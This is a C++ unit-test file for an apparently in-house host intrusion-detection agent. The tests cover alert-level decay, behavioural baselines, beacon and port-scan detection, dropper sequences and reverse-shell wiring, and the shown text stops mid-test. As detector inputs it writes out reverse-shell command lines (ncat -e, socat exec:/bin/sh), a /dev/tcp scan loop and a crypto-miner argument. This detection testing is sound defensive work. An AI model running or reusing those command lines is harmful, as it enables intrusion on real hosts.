#include "vigil/agent/awareness.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <cstring>
#include <fstream>
#include <random>

#include "util/records.h"
#include "util/test_util.h"
#include "vigil/agent/decoder.h"
#include "vigil/agent/pipeline.h"

namespace vigil::agent {
namespace {

// ------------------------------------------------------------------ level

TEST(LevelTracker, ClimbsAtUpThresholdsNotBelow) {
  LevelTracker t;  // up: 40 / 120 / 300
  EXPECT_FALSE(t.observe(0, 39));
  EXPECT_EQ(t.level(), Level::kCalm);
  auto c = t.observe(0, 1);  // below min_score: no pressure added
  EXPECT_FALSE(c);
  c = t.observe(0, 20);  // 59 >= 40
  ASSERT_TRUE(c);
  EXPECT_EQ(c->from, Level::kCalm);
  EXPECT_EQ(c->to, Level::kAttentive);
  EXPECT_EQ(t.level(), Level::kAttentive);
}

TEST(LevelTracker, JumpsStraightToTheJustifiedLevel) {
  LevelTracker t;
  for (int i = 0; i < 4; ++i) {
    (void)t.observe(0, 80);  // 320 total
  }
  EXPECT_EQ(t.level(), Level::kCritical);
}

TEST(LevelTracker, HysteresisHoldsBetweenDownAndUp) {
  LevelConfig cfg;
  cfg.min_dwell_s = 0;
  cfg.half_life_s = 10;
  LevelTracker t(cfg);
  (void)t.observe(0, 50);  // attentive at 50
  ASSERT_EQ(t.level(), Level::kAttentive);
  // After 10 s pressure halves to 25: below up (40) but above down (15): stays.
  EXPECT_FALSE(t.tick(10));
  EXPECT_EQ(t.level(), Level::kAttentive);
  // After 20 s more it is 6.25 < 15: steps down.
  auto c = t.tick(30);
  ASSERT_TRUE(c);
  EXPECT_EQ(c->to, Level::kCalm);
}

TEST(LevelTracker, MinimumDwellPreventsFlapping) {
  LevelConfig cfg;
  cfg.min_dwell_s = 60;
  cfg.half_life_s = 1;
  LevelTracker t(cfg);
  (void)t.observe(0, 50);
  EXPECT_FALSE(t.tick(30)) << "pressure is gone but the dwell time is not over";
  EXPECT_EQ(t.level(), Level::kAttentive);
  EXPECT_TRUE(t.tick(61));
  EXPECT_EQ(t.level(), Level::kCalm);
}

TEST(LevelTracker, StepsDownToTheLevelItsPressureStillJustifies) {
  LevelConfig cfg;
  cfg.min_dwell_s = 5;
  cfg.half_life_s = 10;
  LevelTracker t(cfg);
  for (int i = 0; i < 3; ++i) (void)t.observe(0, 100);  // alert-grade 300 >= 250
  ASSERT_EQ(t.level(), Level::kCritical);
  // 10 s later: 150, below critical's down (125)? no: stays critical.
  EXPECT_FALSE(t.tick(10));
  // 20 s: 75, under 125 but over alert's down (50): alert.
  EXPECT_EQ(t.tick(20)->to, Level::kAlert);
  EXPECT_FALSE(t.tick(21)) << "dwell restarts in each level";
  // 60 s: ~1: straight to calm, not one step at a time.
  EXPECT_EQ(t.tick(60)->to, Level::kCalm);
}

// Ordinary work raises many indicator hits below the alert threshold (a
// compile in /tmp, apt, sudo, useradd): they never take a host past
// attentive, however many, so an attacker cannot blind a host with cheap
// noise and a busy developer's host does not read as under attack.
TEST(LevelTracker, HitsBelowTheAlertThresholdNeverGoPastAttentive) {
  LevelTracker t;
  for (int i = 0; i < 10000; ++i) {
    (void)t.observe(i * 0.01, 49);
  }
  EXPECT_EQ(t.level(), Level::kAttentive);
  EXPECT_EQ(t.alerting_pressure(), 0.0);
  (void)t.observe(100, 50);  // alert-grade
  (void)t.observe(100, 60);
  EXPECT_EQ(t.level(), Level::kAlert);
}

TEST(LevelTracker, AnIdleHostIsCalmWithinFiveMinutesWhateverCameBefore) {
  LevelTracker t;  // defaults
  for (int i = 0; i < 100000; ++i) {
    (void)t.observe(0, 100);
  }
  ASSERT_EQ(t.level(), Level::kCritical);
  EXPECT_LE(t.alerting_pressure(), 500.0) << "pressure is capped";
  for (int s = 1; s <= 300; ++s) (void)t.tick(s);
  EXPECT_EQ(t.level(), Level::kCalm);
}

TEST(LevelTracker, AttentiveThresholdLearnsTheHostsOwnBenignPeak) {
  LevelConfig cfg;
  cfg.benign_window_s = 1000;
  LevelTracker t(cfg);
  auto burst = [&](double at, int n) {
    for (int i = 0; i < n; ++i) (void)t.observe(at, 45);
  };
  // A fresh host knows nothing: its first busy minute makes it attentive.
  burst(0, 5);  // 225
  EXPECT_EQ(t.level(), Level::kAttentive);
  EXPECT_EQ(t.attentive_threshold(), 40.0);
  // The window closes: that was this host's benign work.
  EXPECT_EQ(t.tick(1000)->to, Level::kCalm);
  EXPECT_NEAR(t.benign_peak(), 225.0, 1e-9);
  EXPECT_NEAR(t.attentive_threshold(), 337.5, 1e-9);
  // The same work again keeps it calm; twice as much does not.
  burst(1100, 5);
  EXPECT_EQ(t.level(), Level::kCalm);
  (void)t.tick(1500);
  burst(1500, 10);
  EXPECT_EQ(t.level(), Level::kAttentive);
}

TEST(LevelTracker, RepeatsOfOneIncidentCountOnce) {
  LevelTracker t;
  (void)t.observe(0, 70);
  for (int i = 0; i < 50; ++i) (void)t.observe(0, 70, /*repeat=*/true);
  EXPECT_EQ(t.alerting_pressure(), 70.0);
  EXPECT_EQ(t.level(), Level::kAttentive) << "one incident, however repeated";
  (void)t.observe(0, 70);  // a second incident
  EXPECT_EQ(t.level(), Level::kAlert);
}

TEST(LevelTracker, AlertGradeIsNeverBelowFiftyEvenAtThresholdOne) {
  LevelTracker t;
  t.set_alert_score(1);  // a recording run: every score is "an alert"
  for (int i = 0; i < 1000; ++i) (void)t.observe(0, 30);
  EXPECT_EQ(t.level(), Level::kAttentive);
  t.set_alert_score(70);
  for (int i = 0; i < 10; ++i) (void)t.observe(0, 60);
  EXPECT_EQ(t.alerting_pressure(), 0.0);
}

// ------------------------------------------------------------------ focus

TEST(AttentionFocus, DecaysAndIsBounded) {
  AttentionFocus f(2, /*half_life_s=*/10, /*min_weight=*/10);
  f.add(1, 40, 0);
  EXPECT_TRUE(f.in_focus(1, 0));
  EXPECT_TRUE(f.in_focus(1, 19));   // 40 -> ~10.7
  EXPECT_FALSE(f.in_focus(1, 25));  // ~7
  EXPECT_FALSE(f.in_focus(2, 0));
  f.add(2, 100, 30);
  f.add(3, 100, 30);  // full: the weakest (1) goes
  EXPECT_EQ(f.size(), 2U);
  EXPECT_TRUE(f.in_focus(2, 30));
  EXPECT_TRUE(f.in_focus(3, 30));
}

// ------------------------------------------------------------------ baseline

TEST(Baseline, LearnsSilentlyDuringWarmupThenFlagsNovelty) {
  Baseline b({.capacity = 100, .warmup_s = 100, .max_age_s = 1000});
  EXPECT_FALSE(b.observe("bash>ls", 1000));  // warm-up starts
  EXPECT_FALSE(b.observe("bash>cat", 1050));
  EXPECT_FALSE(b.observe("bash>ls", 1200));  // known
  EXPECT_TRUE(b.observe("httpd>sh", 1200));  // new after warm-up
  EXPECT_FALSE(b.observe("httpd>sh", 1201)) << "novel once";
}

TEST(Baseline, AgesOutAndIsBounded) {
  Baseline b({.capacity = 2, .warmup_s = 0, .max_age_s = 100});
  (void)b.observe("a", 1);
  (void)b.observe("b", 2);
  (void)b.observe("c", 3);  // evicts a (least recent)
  EXPECT_EQ(b.size(), 2U);
  EXPECT_FALSE(b.contains("a"));
  EXPECT_TRUE(b.observe("b", 500)) << "not seen for longer than max_age: novel again";
}

TEST(Baseline, SurvivesSaveAndLoadWithHostileKeys) {
  test::TempDir dir;
  const auto path = dir.path() / "baseline.tsv";
  Baseline b({.capacity = 10, .warmup_s = 50, .max_age_s = 1000});
  (void)b.observe("/usr/bin/a\tb>/tmp/x\ny%", 100);
  (void)b.observe("/usr/sbin/nginx>/usr/bin/dash", 110);
  ASSERT_OK(b.save(path));

  Baseline r({.capacity = 10, .warmup_s = 50, .max_age_s = 1000});
  ASSERT_OK(r.load(path, 200));
  EXPECT_EQ(r.size(), 2U);
  EXPECT_TRUE(r.contains("/usr/bin/a\tb>/tmp/x\ny%"));
  EXPECT_FALSE(r.warming_up(200)) << "warm-up start survives a restart";
  EXPECT_FALSE(r.observe("/usr/sbin/nginx>/usr/bin/dash", 210)) << "a restart does not forget";
}

TEST(Baseline, MalformedFileIsAClearError) {
  test::TempDir dir;
  const auto path = dir.path() / "baseline.tsv";
  std::ofstream(path) << "started\t1\n12\tok\nno-tab-here\n";
  Baseline b;
  auto r = b.load(path, 100);
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().message.find(":3:"), std::string::npos) << r.error().message;
  Baseline missing;
  EXPECT_OK(missing.load(dir.path() / "nope.tsv", 1));
}

// ------------------------------------------------------------------ dedupe

TEST(AlertDeduper, OneIncidentPerEntityAndIndicatorPerWindow) {
  AlertDeduper d(60);
  auto first = d.observe(10, "ptrace-attach", 0);
  EXPECT_TRUE(first.emit);
  for (int i = 1; i <= 5; ++i) {
    auto again = d.observe(10, "ptrace-attach", i);
    EXPECT_FALSE(again.emit);
    EXPECT_EQ(again.id, first.id);
  }
  EXPECT_TRUE(d.observe(10, "ptrace-write", 6).emit) << "another indicator is another incident";
  EXPECT_TRUE(d.observe(11, "ptrace-attach", 6).emit) << "another entity too";
  std::vector<AlertDeduper::Closed> closed;
  d.close_expired(59, [&](auto c) { closed.push_back(c); });
  EXPECT_TRUE(closed.empty());
  d.close_expired(61, [&](auto c) { closed.push_back(c); });
  ASSERT_EQ(closed.size(), 1U) << "only incidents with repeats are reported";
  EXPECT_EQ(closed[0].id, first.id);
  EXPECT_EQ(closed[0].count, 6U);
  EXPECT_TRUE(d.observe(10, "ptrace-attach", 62).emit) << "a new window opens a new incident";
  EXPECT_EQ(d.suppressed(), 5U);
}

// ------------------------------------------------------------------ in the pipeline

TEST(PipelineAwareness, RepeatedAttacksFoldAndRaiseTheLevel) {
  test::TempDir dir;
  ProcessTable table(100, "");
  Pipeline p("h", table, 0, baseline_model());
  auto sink = LineSink::open((dir.path() / "alerts").string());
  ASSERT_OK(sink);
  p.set_alerts(std::move(*sink), OutputFormat::kJson, 50);
  for (int i = 0; i < 10; ++i) {
    vigil_ptrace rec{};
    test::fill_hdr(rec.hdr, VIGIL_EV_PTRACE, sizeof(rec), 300);
    rec.hdr.ts_ns = 1'000'000'000ULL * (100 + i);
    rec.request = 16;
    rec.target_pid = 400;
    p.on_record(test::bytes_of(rec));
  }
  p.on_batch_end();
  EXPECT_EQ(p.stats().alerts, 1U);
  EXPECT_EQ(p.stats().alerts_suppressed, 9U);
  EXPECT_NE(p.level(), Level::kCalm) << "ten high scores raise the host level";
  EXPECT_GE(p.stats().level_changes, 1U);
  p.on_tick(100 + 61);
  std::ifstream in(dir.path() / "alerts");
  std::string all((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  EXPECT_NE(all.find("\"type\":\"level\",\"from\":\"calm\""), std::string::npos) << all;
  EXPECT_NE(all.find("\"type\":\"incident\""), std::string::npos) << all;
  EXPECT_NE(all.find("\"count\":10"), std::string::npos) << all;
}

}  // namespace
}  // namespace vigil::agent

namespace vigil::agent {
namespace {

TEST(Rhythm, JitteredBeaconIsDetectedAfterAFewPeriods) {
  RhythmTracker r;
  std::mt19937 rng(1);
  std::uniform_real_distribution<double> jitter(-0.4, 0.4);  // 2 s +- 20 %
  double t = 100;
  double period = 0;
  int contacts = 0;
  while (period == 0 && contacts < 20) {
    period = r.observe("/tmp/implant>10.0.0.9:443", t);
    t += 2.0 + jitter(rng);
    ++contacts;
  }
  EXPECT_EQ(contacts, 6);  // first contact + five intervals
  EXPECT_NEAR(period, 2.0, 0.3);
}

TEST(Rhythm, IrregularTrafficIsNotABeacon) {
  RhythmTracker r;
  std::mt19937 rng(2);
  std::exponential_distribution<double> gap(1.0 / 3.0);  // Poisson, mean 3 s
  double t = 0;
  int detections = 0;
  for (int i = 0; i < 200; ++i) {
    t += 0.5 + gap(rng);
    detections += r.observe("/usr/bin/curl>93.184.216.34:443", t) > 0 ? 1 : 0;
  }
  EXPECT_LE(detections, 2);  // CV ~ 0.9: at most a rare chance run
}

TEST(Rhythm, BurstsResetAndMemoryIsBounded) {
  RhythmTracker r({.capacity = 3});
  for (int i = 0; i < 5; ++i) EXPECT_EQ(r.observe("k", i * 2.0), 0);
  EXPECT_EQ(r.observe("k", 8.01), 0);  // a burst (< 0.5 s apart) breaks the rhythm...
  EXPECT_EQ(r.observe("k", 10.0), 0);  // ...and counting starts over
  for (const char* k : {"a", "b", "c", "d"}) r.observe(k, 1);
  EXPECT_EQ(r.size(), 3U);
}

}  // namespace
}  // namespace vigil::agent

namespace vigil::agent {
namespace {

TEST(ConnectScan, ManyDistinctRefusedPortsFromOneProcessOncePerWindow) {
  ConnectScanTracker t(20, 10, 100);
  int reports = 0;
  for (int port = 1; port <= 40; ++port) {
    const auto s = t.observe({.pid = 7, .uid = 1000, .exe = "/usr/bin/nmap"}, "10.0.0.1",
                             static_cast<std::uint16_t>(port), 1.0 + port * 0.01);
    if (s != Spread::kNone) {
      EXPECT_EQ(s, Spread::kProcess) << "the narrowest unit is named";
      ++reports;
    }
  }
  EXPECT_EQ(reports, 1);
  // Retries of one port are not a scan.
  for (int i = 0; i < 50; ++i) {
    EXPECT_EQ(t.observe({.pid = 8, .uid = 1001}, "10.0.0.2", 443, 1.0 + i * 0.01), Spread::kNone);
  }
  // Spread over more than the window: no scan.
  for (int port = 1; port <= 25; ++port) {
    EXPECT_EQ(t.observe({.pid = 9, .uid = 1002}, "10.0.0.3", static_cast<std::uint16_t>(port),
                        port * 11.0),
              Spread::kNone);
  }
}

// `for p in ...; do bash -c "echo > /dev/tcp/HOST/$p"; done`: one port per
// process. Each unit an attacker could spread over still adds up.
TEST(ConnectScan, OnePortPerProcessAddsUpByTreeExecutableAndUser) {
  ConnectScanTracker t(20, 10, 1000);
  auto loop = [&](auto&& actor_for, const char* addr, std::uint32_t first_pid) {
    std::vector<Spread> found;
    for (std::uint32_t i = 0; i < 30; ++i) {
      const auto s = t.observe(actor_for(first_pid + i), addr, static_cast<std::uint16_t>(100 + i),
                               50.0 + i * 0.1);
      if (s != Spread::kNone) found.push_back(s);
    }
    return found;
  };
  // One tree (a shell loop), the same program each time.
  EXPECT_EQ(loop(
                [](std::uint32_t pid) {
                  return Actor{pid, 10, 10, 1000, "/usr/bin/bash"};
                },
                "10.0.0.1", 100),
            std::vector<Spread>{Spread::kTree})
      << "once, not once per process";
  // Each process in a tree of its own (started through cron, at, systemd-run):
  // the executable still adds up.
  EXPECT_EQ(loop(
                [](std::uint32_t pid) {
                  return Actor{pid, 1, pid, 1001, "/usr/bin/nc"};
                },
                "10.0.0.2", 200),
            std::vector<Spread>{Spread::kExecutable});
  // A different tree and program each time: the user.
  EXPECT_EQ(loop(
                [](std::uint32_t pid) {
                  static std::vector<std::string> names;
                  names.push_back("/tmp/x" + std::to_string(pid));
                  return Actor{pid, 1, pid, 1002, names.back()};
                },
                "10.0.0.3", 300),
            std::vector<Spread>{Spread::kUser});
  // Failures spread over many hosts, one port each, by many users: no scan of anything.
  int spread = 0;
  for (std::uint32_t i = 0; i < 40; ++i) {
    const auto addr = "10.1.0." + std::to_string(i);
    spread += t.observe({400 + i, 1, 400 + i, 2000 + i, "/usr/bin/curl"}, addr,
                        static_cast<std::uint16_t>(100 + i), 60.0) != Spread::kNone;
  }
  EXPECT_EQ(spread, 0) << "tree, executable and user count the ports of one address";
}

TEST(ConnectScan, BoundedByCapacity) {
  ConnectScanTracker t(20, 10, 40);
  for (std::uint32_t pid = 1; pid < 500; ++pid) {
    (void)t.observe({pid, 1, pid, pid, "/x"}, "10.0.0.1", 1, pid * 0.001);
    EXPECT_LE(t.size(), 40U);
  }
}

TEST(CrashSpread, CrashesOfManyProcessesAddUpPerTreeAndUser) {
  CrashSpreadTracker t(20, 10);
  std::vector<Spread> found;
  for (std::uint32_t i = 0; i < 30; ++i) {
    // A copy of the binary per attempt: each crashing process has its own exe.
    const std::string exe = "/tmp/copy" + std::to_string(i);
    const auto s = t.observe({500 + i, 10, 10, 1000, exe}, 1.0 + i * 0.1);
    if (s != Spread::kNone) found.push_back(s);
  }
  EXPECT_EQ(found, std::vector<Spread>{Spread::kTree});
  // Another user's processes in trees of their own: the user adds up.
  found.clear();
  for (std::uint32_t i = 0; i < 30; ++i) {
    const auto s = t.observe({600 + i, 1, 600 + i, 1001, "/usr/bin/victim"}, 1.0 + i * 0.1);
    if (s != Spread::kNone) found.push_back(s);
  }
  EXPECT_EQ(found, std::vector<Spread>{Spread::kUser});
  // Slow crashes (one every second) are no storm.
  for (std::uint32_t i = 0; i < 40; ++i) {
    EXPECT_EQ(t.observe({700 + i, 11, 11, 1002, "/usr/bin/app"}, 100.0 + i), Spread::kNone);
  }
  // The kernel's own storm for an executable silences the same tree and user:
  // one storm, one finding.
  CrashSpreadTracker k(20, 10);
  k.reported({800, 12, 12, 1003, "/usr/bin/victim"}, 200.0);
  for (std::uint32_t i = 0; i < 25; ++i) {
    EXPECT_EQ(k.observe({801 + i, 12, 12, 1003, "/usr/bin/victim"}, 200.0 + i * 0.1),
              Spread::kNone);
  }
}

TEST(ShellStdin, OnlyShellsReadingCommandsFromStdinQualify) {
  using V = std::vector<std::string>;
  for (const auto& args :
       {V{"bash"}, V{"/bin/sh"}, V{"bash", "-i"}, V{"bash", "-li"}, V{"bash", "--norc", "-i"},
        V{"sh", "-s", "arg"}, V{"python3"}, V{"python3", "-i"}, V{"python3", "-"},
        V{"bash", "-o", "vi"}, V{"bash", "--rcfile", "/tmp/rc", "-i"}}) {
    EXPECT_TRUE(reads_commands_from_stdin(args)) << args.back();
  }
  for (const auto& args :
       {V{"bash", "-c", "id"}, V{"bash", "-lc", "id"}, V{"sh", "script.sh"},
        V{"python3", "-c", "import pty"}, V{"python3", "-m", "http.server"},
        V{"perl", "-e", "print 1"}, V{"bash", "--", "script.sh"}, V{"sh", "-e", "x.sh"}}) {
    EXPECT_FALSE(reads_commands_from_stdin(args)) << args.back();
  }
}

TEST(OffensiveTools, NamesAndTelltaleArguments) {
  EXPECT_TRUE(looks_offensive("/usr/bin/nmap", std::vector<std::string>{"nmap", "-sS"}));
  EXPECT_TRUE(looks_offensive("/usr/bin/ncat", std::vector<std::string>{"ncat", "-e", "/bin/sh"}));
  EXPECT_FALSE(looks_offensive("/usr/bin/ncat", std::vector<std::string>{"ncat", "-l", "8080"}));
  EXPECT_TRUE(looks_offensive("/usr/bin/socat",
                              std::vector<std::string>{"socat", "tcp:1.2.3.4:9", "exec:/bin/sh"}));
  EXPECT_TRUE(looks_offensive(
      "/tmp/kworker", std::vector<std::string>{"kworker", "-o", "stratum+tcp://pool:3333"}));
  EXPECT_FALSE(looks_offensive("/usr/bin/grep", std::vector<std::string>{"grep", "-e", "x"}));
}

TEST(Sequences, DroppedFileRunByTheSameTreeWithinTheWindow) {
  SequenceTracker seq(120);
  const std::vector<std::uint32_t> same_tree = {30, 10, 1};  // exec'ing pid, the shell, init
  const std::vector<std::uint32_t> other_tree = {31, 11, 1};
  const Actor execer{.pid = 30, .ppid = 10, .tree = 0, .uid = 1000};
  const Actor stranger{.pid = 31, .ppid = 11, .tree = 0, .uid = 1001};
  EXPECT_FALSE(seq.exec_of_dropped("/tmp/x", same_tree, execer, 1)) << "no chmod yet";
  // `chmod +x /tmp/x` run by the shell 10
  seq.made_executable("/tmp/x", {.pid = 20, .ppid = 10, .uid = 1000}, 0);
  EXPECT_FALSE(seq.exec_of_dropped("/tmp/y", same_tree, execer, 5)) << "another file";
  EXPECT_FALSE(seq.exec_of_dropped("/tmp/x", other_tree, stranger, 5)) << "another tree and user";
  EXPECT_TRUE(seq.exec_of_dropped("/tmp/x", same_tree, execer, 5));
  EXPECT_TRUE(
      seq.exec_of_dropped("/tmp/x", std::vector<std::uint32_t>{20}, {.pid = 20, .uid = 1000}, 5))
      << "the process that ran chmod may exec it itself";
  EXPECT_FALSE(seq.exec_of_dropped("/tmp/x", same_tree, execer, 121)) << "outside the window";

  // Stages recorded against init (pid 1) match nothing: everyone descends from it.
  seq.made_executable("/tmp/z", {.pid = 1, .ppid = 0, .uid = 0}, 200);
  EXPECT_FALSE(seq.exec_of_dropped("/tmp/z", other_tree, stranger, 201));

  SequenceTracker small(120, 2);
  small.made_executable("/tmp/a", {.pid = 20, .ppid = 10, .uid = 1000}, 0);
  small.made_executable("/tmp/b", {.pid = 20, .ppid = 10, .uid = 1000}, 0);
  small.made_executable("/tmp/c", {.pid = 20, .ppid = 10, .uid = 1000}, 0);
  EXPECT_FALSE(small.exec_of_dropped("/tmp/a", same_tree, stranger, 1))
      << "bounded: the oldest went";
  EXPECT_TRUE(small.exec_of_dropped("/tmp/c", same_tree, stranger, 1));
}

// One process writes the file, a second (whose parent is gone) chmods it, a
// third, in another branch of the session, runs it: no lineage links them.
TEST(Sequences, SplitDropperJoinsUpByTreeOrUser) {
  SequenceTracker seq(120);
  seq.made_executable("/tmp/d", {.pid = 41, .ppid = 40, .tree = 5, .uid = 1000}, 0);
  const std::vector<std::uint32_t> unrelated = {52, 51, 1};
  EXPECT_TRUE(
      seq.exec_of_dropped("/tmp/d", unrelated, {.pid = 52, .ppid = 51, .tree = 5, .uid = 1000}, 3))
      << "the same session (tree 5)";
  EXPECT_TRUE(
      seq.exec_of_dropped("/tmp/d", unrelated, {.pid = 52, .ppid = 51, .tree = 6, .uid = 1000}, 3))
      << "another session of the same user (a cron job running what a shell dropped)";
  EXPECT_FALSE(
      seq.exec_of_dropped("/tmp/d", unrelated, {.pid = 52, .ppid = 51, .tree = 6, .uid = 33}, 3))
      << "another user in another tree";
  EXPECT_FALSE(seq.exec_of_dropped("/tmp/d", unrelated,
                                   {.pid = 52, .ppid = 51, .tree = 5, .uid = 1000}, 130))
      << "outside the window";
}

TEST(Sequences, RecentOutboundConnectionsAreRememberedBriefly) {
  SequenceTracker seq(120, 2);
  EXPECT_FALSE(seq.recently_connected(7, 0));
  seq.connected_out(7, 3, 10);
  EXPECT_TRUE(seq.recently_connected(7, 20));
  EXPECT_FALSE(seq.recently_connected(7, 41)) << "older than 30 s";
  EXPECT_FALSE(seq.recently_connected(8, 20));
  seq.connected_out(8, 3, 300);
  seq.connected_out(9, 4, 300);  // full: entries outside the window make room
  EXPECT_TRUE(seq.recently_connected(9, 301));
  EXPECT_TRUE(seq.recently_connected(8, 301));
  std::array<std::uint32_t, 4> peers{};
  ASSERT_EQ(seq.recent_connects_in(3, 301, peers), 1U);
  EXPECT_EQ(peers[0], 8U);
  EXPECT_EQ(seq.recent_connects_in(3, 340, peers), 0U) << "the relay window is over";
}

TEST(Sequences, ScanThenConnectThenExecInOneTreeIsOneFinding) {
  SequenceTracker seq(120);
  const std::vector<std::uint32_t> scanner_sibling = {21, 10, 1};
  const std::vector<std::uint32_t> later_child = {22, 10, 1};
  const Actor sibling{.pid = 21, .ppid = 10};
  const Actor child{.pid = 22, .ppid = 10};
  seq.connected(scanner_sibling, sibling, 0);
  EXPECT_FALSE(seq.watching_connects()) << "a connect without a scan before it is nothing";
  seq.scanned({.pid = 20, .ppid = 10}, 1);  // the scanner, child of the script 10
  EXPECT_TRUE(seq.watching_scans());
  EXPECT_FALSE(seq.exec_after_scan_connect(later_child, child, 2))
      << "scan -> exec lacks the connect";
  seq.connected(std::vector<std::uint32_t>{40, 11, 1}, {.pid = 40, .ppid = 11}, 3);
  EXPECT_FALSE(seq.watching_connects()) << "another tree connects";
  seq.connected(scanner_sibling, sibling, 4);  // the script's next tool connects
  EXPECT_TRUE(seq.exec_after_scan_connect(later_child, child, 5));
  EXPECT_FALSE(seq.exec_after_scan_connect(later_child, child, 6))
      << "one finding, not one per exec";

  seq.scanned({.pid = 50, .ppid = 12}, 10);
  seq.connected(std::vector<std::uint32_t>{51, 12}, {.pid = 51, .ppid = 12}, 200);
  EXPECT_FALSE(seq.watching_connects()) << "the scan expired before the connect";
}

// Scanner, connector and exec'd program each a child of a different
// short-lived shell: only the tree links them.
TEST(Sequences, ScanConnectExecAcrossProcessesOfOneTree) {
  SequenceTracker seq(120);
  seq.scanned({.pid = 60, .ppid = 59, .tree = 7}, 0);
  seq.connected(std::vector<std::uint32_t>{62, 61}, {.pid = 62, .ppid = 61, .tree = 8}, 1);
  EXPECT_FALSE(seq.watching_connects()) << "a connect in another tree";
  seq.connected(std::vector<std::uint32_t>{64, 63}, {.pid = 64, .ppid = 63, .tree = 7}, 2);
  ASSERT_TRUE(seq.watching_connects());
  EXPECT_FALSE(seq.exec_after_scan_connect(std::vector<std::uint32_t>{66, 65},
                                           {.pid = 66, .ppid = 65, .tree = 8}, 3));
  EXPECT_TRUE(seq.exec_after_scan_connect(std::vector<std::uint32_t>{68, 67},
                                          {.pid = 68, .ppid = 67, .tree = 7}, 3));
}

StdioWiring wiring(std::array<FdEnd, 3> own, std::uint32_t holder = 0,
                   std::array<FdEnd, 3> holder_io = {}) {
  StdioWiring w;
  w.own.fd = own;
  w.holder = holder;
  w.holder_io.fd = holder_io;
  return w;
}
constexpr FdEnd pipe_end(std::uint64_t id) { return {FdKind::kPipe, id}; }
constexpr FdEnd pty_end(std::uint64_t id) { return {FdKind::kPty, id}; }
constexpr FdEnd socket_end(std::uint64_t id) { return {FdKind::kSocket, id}; }
constexpr FdEnd file_end() { return {FdKind::kOther, 9}; }

TEST(ShellWiring, OutputGoesToThePipesReaderOrThePtysHolder) {
  // cat f | bash -i 2>&1 | nc ...: output into pipe 2, relay candidate the parent.
  auto s = wire_shell(30, 29, 5, wiring({pipe_end(1), pipe_end(2), pipe_end(2)}));
  ASSERT_TRUE(s);
  EXPECT_EQ(s->relay, 29U);
  ASSERT_EQ(s->n_out, 1);
  EXPECT_EQ(s->out[0], 2U);
  EXPECT_FALSE(s->relay_on_socket);
  // bash on a pty held by python whose stdio is the connected socket (pty.spawn).
  s = wire_shell(31, 29, 5,
                 wiring({pty_end(7), pty_end(7), pty_end(7)}, 29,
                        {socket_end(4), socket_end(4), socket_end(4)}));
  ASSERT_TRUE(s);
  EXPECT_EQ(s->relay, 29U);
  EXPECT_TRUE(s->relay_on_socket);
  // script -qc bash behind nc: the holder's output is a pipe.
  s = wire_shell(
      32, 31, 5,
      wiring({pty_end(8), pty_end(8), pty_end(8)}, 28, {pipe_end(11), pipe_end(12), pipe_end(12)}));
  ASSERT_TRUE(s);
  EXPECT_EQ(s->relay, 28U);
  ASSERT_EQ(s->n_out, 1);
  EXPECT_EQ(s->out[0], 12U);
  // curl URL | bash with output to a file (or a terminal): not wired like a relay.
  EXPECT_FALSE(wire_shell(33, 29, 5, wiring({pipe_end(1), file_end(), file_end()})));
  EXPECT_FALSE(wire_shell(34, 29, 5, wiring({file_end(), pipe_end(1), pipe_end(1)})));
}

TEST(Sequences, AWaitingShellIsMatchedByTheProcessReadingItsOutput) {
  SequenceTracker seq(120);
  ShellWiring shell{.pid = 30, .tree = 5, .relay = 29, .out = {2}, .n_out = 1};
  seq.shell_waiting(shell, 0);
  EXPECT_TRUE(seq.shells_waiting(5, 1));
  EXPECT_FALSE(seq.shells_waiting(6, 1));
  EXPECT_FALSE(seq.relay_connected(40, 5, 1, 1)) << "reads another pipe";
  EXPECT_FALSE(seq.relay_connected(40, 6, 2, 1)) << "another tree";
  EXPECT_FALSE(seq.relay_connected(40, 5, 0, 1)) << "stdin is no pipe";
  EXPECT_TRUE(seq.relay_connected(40, 5, 2, 1)) << "nc reading the shell's output";
  EXPECT_FALSE(seq.relay_connected(40, 5, 2, 2)) << "one finding per shell";

  seq.shell_waiting(shell, 10);
  EXPECT_TRUE(seq.relay_connected(29, 5, 0, 11)) << "the relay itself connects after the exec";
  seq.shell_waiting(shell, 20);
  EXPECT_FALSE(seq.relay_connected(29, 5, 0, 51)) << "after the relay window";
  EXPECT_FALSE(seq.shells_waiting(5, 51));

  SequenceTracker small(120, 2);
  for (std::uint32_t pid = 1; pid <= 5; ++pid) {
    small.shell_waiting({.pid = pid, .tree = 5, .relay = 100 + pid}, 0);
  }
  EXPECT_FALSE(small.relay_connected(101, 5, 0, 1)) << "bounded: the oldest went";
  EXPECT_TRUE(small.relay_connected(105, 5, 0, 1));
}

}  // namespace
}  // namespace vigil::agent

namespace vigil::agent {
namespace {

namespace fs = std::filesystem;

// ------------------------------------------------------------------ trees

TEST(ProcessTree, ForkedAndExecedProcessesKeepTheirSessionsRoot) {
  ProcessTable t(100, "");
  auto apply = [&](auto rec) {
    Event e;
    Decoder d(0);
    ASSERT_OK(d.decode(test::bytes_of(rec), e));
    t.apply(e);
  };
  // sshd (an anchor) -> login bash 20 -> loop 21 -> short-lived children.
  auto sshd = test::make_exec(10, "/usr/sbin/sshd", {"sshd"});
  sshd.hdr.ppid = 1;
  apply(sshd);
  apply(test::make_fork(10, 20));
  auto bash = test::make_exec(20, "/usr/bin/bash", {"-bash"});
  bash.hdr.ppid = 10;
  apply(bash);
  apply(test::make_fork(20, 21));
  apply(test::make_fork(21, 22));
  EXPECT_EQ(t.tree_of(10), 10U) << "a child of init roots its own tree";
  EXPECT_EQ(t.tree_of(20), 20U) << "a child of sshd starts a session";
  EXPECT_EQ(t.tree_of(21), 20U);
  EXPECT_EQ(t.tree_of(22), 20U);
  // The loop dies; its orphaned child (setsid, double fork) stays in the session.
  apply(test::make_exit(21, 0));
  EXPECT_EQ(t.tree_of(21), 20U) << "the last exit is remembered for scoring it";
  apply(test::make_fork(22, 23));
  EXPECT_EQ(t.tree_of(23), 20U);
  apply(test::make_exit(98, 0));
  EXPECT_EQ(t.tree_of(21), 0U) << "only the last exit";
  // A copy of bash named sshd in /tmp is no anchor.
  auto fake = test::make_exec(23, "/tmp/sshd", {"sshd"});
  fake.hdr.ppid = 22;
  apply(fake);
  apply(test::make_fork(23, 24));
  EXPECT_EQ(t.tree_of(24), 20U);
  EXPECT_FALSE(t.find(23)->anchor);
  EXPECT_TRUE(t.find(10)->anchor);
